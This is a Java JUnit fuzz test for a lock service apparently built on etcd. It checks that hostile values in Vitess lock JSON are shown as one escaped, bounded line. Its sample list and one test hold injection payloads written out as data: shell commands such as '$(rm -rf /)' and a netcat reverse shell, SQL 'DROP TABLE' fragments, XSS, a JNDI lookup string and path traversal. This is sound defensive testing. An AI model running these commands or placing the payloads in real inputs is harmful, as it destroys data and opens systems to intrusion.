package io.pointsman.engine.lock;

import static io.pointsman.engine.etcd.EtcdClients.bytes;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.etcd.jetcd.ByteSequence;
import io.etcd.jetcd.Client;
import io.etcd.jetcd.options.PutOption;
import io.pointsman.api.errors.ErrorCode;
import io.pointsman.api.errors.PointsmanException;
import io.pointsman.engine.testing.TestEtcd;
import io.pointsman.engine.topo.TopoPaths;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * A lock key's value is whatever the tool that took the lock wrote: Vitess's JSON, another tool's
 * JSON, or any bytes at all. pointsman shows it (the lock wait in the progress query and the
 * worker's log, a lock timeout's message) and never interprets it further. Fed values from a fixed
 * seed (random bytes, 1 MB strings, control characters, ANSI escapes, bidi overrides, HTML, SQL and
 * shell fragments) in every field of Vitess's lock JSON and as the whole value, each description
 * is one printable line of bounded length, with the hostile parts escaped rather than passed on.
 */
class LockHolderFuzzTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final long SEED = 20261203L;
  private static final int MEGABYTE = 1024 * 1024;
  /** Seven fields of at most 120 shown characters, their escapes and the words between them. */
  private static final int MAX_LINE = 7 * (120 * 6 + 40) + 200;
  private static final List<String> FIELDS = List.of("Action", "HostName", "UserName", "Time", "Status",
      "TemporalNamespace", "TemporalWorkflowId", "TemporalRunId");
  private static final List<String> HOSTILE = List.of("\u001b[31mred\u001b[0m", "\u001b]0;title\u0007", "\u009b2J",
      "\u0000", "\n", "\r", "\u0008\u0008\u0008", "\u202eevil", "\u2066", "\u2028", "\uFEFF", "\uD800",
      "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "' OR '1'='1", "`; DROP TABLE _vt.vreplication; --",
      "\"); DELETE FROM t; --", "$(rm -rf /)", "`reboot`", "; shutdown -h now", "| nc -e /bin/sh h 1", "${jndi:ldap://x}",
      "%s%n%x", "{}", "\\", "../../etc/passwd", "日本", "\uD83D\uDE00");

  private Client etcd;
  private TopoPaths paths;

  @BeforeEach
  void connect() {
    etcd = TestEtcd.client();
    paths = TestEtcd.freshPaths();
  }

  @AfterEach
  void close() {
    etcd.close();
  }

  @Test
  void everyHostileFieldOfVitessLockJsonIsShownEscapedAndCut() throws Exception {
    Random random = new Random(SEED);
    int cases = 0;
    for (String field : FIELDS) {
      for (int i = 0; i < 80; i++) {
        String bad = hostile(random);
        ObjectNode value = vitessLock();
        value.put(field, bad);
        assertShownSafely(describe(JSON.writeValueAsString(value)));
        cases++;
      }
      ObjectNode huge = vitessLock();
      // pointsman's own fields, so that describe shows the Temporal ones too
      huge.put("TemporalNamespace", "default");
      huge.put("TemporalWorkflowId", "SwitchTraffic-customer.commerce2customer");
      huge.put("TemporalRunId", "5f0c");
      huge.put(field, "\u001b[2J".repeat(MEGABYTE / 4));
      String line = describe(JSON.writeValueAsString(huge));
      assertShownSafely(line);
      if (!field.equals("Status")) { // Vitess always writes Running there; describe leaves it out
        assertThat(line).contains("more characters)");
      }
    }
    assertThat(cases).isGreaterThanOrEqualTo(600);
  }

  @Test
  void anyBytesAsTheWholeValueDescribeSafelyOrNotAtAll() {
    Random random = new Random(SEED);
    for (int i = 0; i < 500; i++) {
      byte[] raw = new byte[random.nextInt(i < 450 ? 300 : MEGABYTE)];
      random.nextBytes(raw);
      if (i % 3 == 0 && raw.length > 0) {
        raw[0] = '{'; // parsers give up later on values that start like JSON
      }
      Optional<LockContents> parsed = LockContents.parse(new String(raw, StandardCharsets.UTF_8));
      parsed.ifPresent(c -> assertShownSafely(c.describe()));
    }
  }

  @Test
  void theHostilePartsAreEscapedNotDropped() throws Exception {
    ObjectNode value = vitessLock();
    value.put("HostName", "\u001b[31mvtctld\u001b[0m\n<b>x</b>");
    value.put("UserName", "\u202eroot");
    String line = describe(JSON.writeValueAsString(value));
    // what the fuzz sends, seen by a person: every fragment still there, only its controls escaped
    for (String fragment : HOSTILE) {
      ObjectNode v = vitessLock();
      v.put("Action", fragment);
      String shown = describe(JSON.writeValueAsString(v));
      assertShownSafely(shown);
      for (String piece : fragment.split("[\\p{Cntrl}\\u0080-\\u009f\\u2028\\u202e\\u2066\\uFEFF\\uD800]")) {
        assertThat(shown).contains(piece);
      }
    }
    assertThat(line).contains("\\u001b[31mvtctld\\u001b[0m\\u000a<b>x</b>", "\\u202eroot");
  }

  /**
   * Against etcd: another tool holds the keyspace lock with a hostile value under a hostile key. The
   * waiting acquisition reports the holder, and its timeout names it, as one safe line each; the
   * other tool's key is left as it was.
   */
  @Test
  void aHostileHolderInEtcdIsReportedSafelyWhileWaitingAndOnTimeout() throws Exception {
    String dir = paths.keyspaceDir("customer");
    long lease = etcd.getLeaseClient().grant(60).get(10, TimeUnit.SECONDS).getID();
    String key = dir + "/locks/" + "\u001b[2J\u001b[H`rm -rf /`'; DROP TABLE t; --" + "x".repeat(5000);
    ObjectNode value = vitessLock();
    value.put("Action", "\u001b[31mMoveTables\u001b[0m\r\nFAKE: lock released");
    value.put("HostName", "<script>alert(1)</script>" + "h".repeat(MEGABYTE / 2));
    ByteSequence k = bytes(key);
    etcd.getKVClient().put(k, bytes(JSON.writeValueAsString(value)), PutOption.builder().withLeaseId(lease).build())
        .get(10, TimeUnit.SECONDS);
    List<LockWait> waits = new CopyOnWriteArrayList<>();
    try (EtcdLockService locks = new EtcdLockService(etcd, paths)) {
      LockOptions options = LockOptions.builder().action("LockHolderFuzzTest").ttl(Duration.ofSeconds(10))
          .acquireTimeout(Duration.ofSeconds(3)).waitListener(waits::add).build();
      assertThatThrownBy(() -> locks.lockKeyspace("customer", options))
          .isInstanceOfSatisfying(PointsmanException.class, e -> {
            assertThat(e.code()).isEqualTo(ErrorCode.LOCK_TIMEOUT);
            assertShownSafely(e.getMessage());
            assertThat(e.getMessage()).contains("\\u001b[31mMoveTables\\u001b[0m\\u000d\\u000aFAKE", "more characters)");
          });
    }
    assertThat(waits).isNotEmpty();
    for (LockWait wait : waits) {
      assertShownSafely(wait.describe());
      assertThat(wait.describe()).contains("<script>alert(1)</script>", "\\u001b[2J");
    }
    assertThat(etcd.getKVClient().get(k).get(10, TimeUnit.SECONDS).getKvs()).singleElement()
        .satisfies(kv -> assertThat(kv.getLease()).isEqualTo(lease));
    etcd.getLeaseClient().revoke(lease).get(10, TimeUnit.SECONDS);
  }

  private static String describe(String value) {
    return LockContents.parse(value).orElseThrow(() -> new AssertionError("not parsed: " + value.substring(0,
        Math.min(200, value.length())))).describe();
  }

  /** One line, nothing a terminal acts on, bounded. */
  private static void assertShownSafely(String line) {
    String where = line.length() > 300 ? line.substring(0, 300) + "..." : line;
    assertThat(line).as(where).doesNotContainPattern("[\\p{Cntrl}\\u0080-\\u009f\\u2028\\u2029\\u202a-\\u202e\\u2066-\\u2069\\uFEFF]");
    assertThat(line.chars().filter(ch -> Character.isSurrogate((char) ch)).count() % 2).as(where).isZero();
    assertThat(line.length()).as(where).isLessThan(MAX_LINE);
  }

  private static ObjectNode vitessLock() {
    ObjectNode n = JSON.createObjectNode();
    n.put("Action", "MoveTables.SwitchTraffic");
    n.put("HostName", "vtctld-0");
    n.put("UserName", "vitess");
    n.put("Time", "2026-12-03T10:00:00Z");
    n.putObject("Options");
    n.put("Status", "Running");
    return n;
  }

  private static String hostile(Random random) {
    StringBuilder sb = new StringBuilder();
    int parts = 1 + random.nextInt(4);
    for (int p = 0; p < parts; p++) {
      switch (random.nextInt(3)) {
        case 0 -> sb.append(HOSTILE.get(random.nextInt(HOSTILE.size())));
        case 1 -> {
          for (int c = random.nextInt(20); c > 0; c--) {
            sb.append((char) random.nextInt(0x10000)); // any UTF-16 unit, lone surrogates included
          }
        }
        default -> sb.append("vtctld-").append(random.nextInt(1000));
      }
    }
    return sb.toString();
  }
}
